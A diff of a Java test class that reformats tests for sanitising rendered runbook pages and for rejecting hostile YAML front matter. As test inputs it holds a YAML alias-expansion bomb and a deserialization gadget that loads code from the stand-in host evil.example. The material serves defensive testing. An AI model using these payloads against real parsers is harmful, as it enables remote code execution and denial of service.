@@ -56,7 +56,8 @@ class HostileRunbookTest {
         // As a browser would read it, once more, after all mutations that the parser may do.
         for (var html : pieces(blocks).toList()) {
             var page = Jsoup.parseBodyFragment(html);
-            assertThat(page.select("script,img,svg,math,iframe,style,form,input,button,base,link,meta,object,embed,template"))
+            assertThat(page.select(
+                            "script,img,svg,math,iframe,style,form,input,button,base,link,meta,object,embed,template"))
                     .isEmpty();
             for (var element : page.body().getAllElements()) {
                 assertThat(element.attributes().asList().stream()
@@ -93,7 +94,8 @@ class HostileRunbookTest {
 
     @Test
     void refusesABombInTheFrontMatterAndShowsTheRest() {
-        var bomb = "---\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: [*b,*b,*b,*b,*b]\n---\n# Title\n";
+        var bomb =
+                "---\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: [*b,*b,*b,*b,*b]\n---\n# Title\n";
         for (var text : List.of(
                 bomb,
                 "---\n!!javax.script.ScriptEngineManager [!!java.net.URL [http://evil.example/]]\n---\n# Title\n",
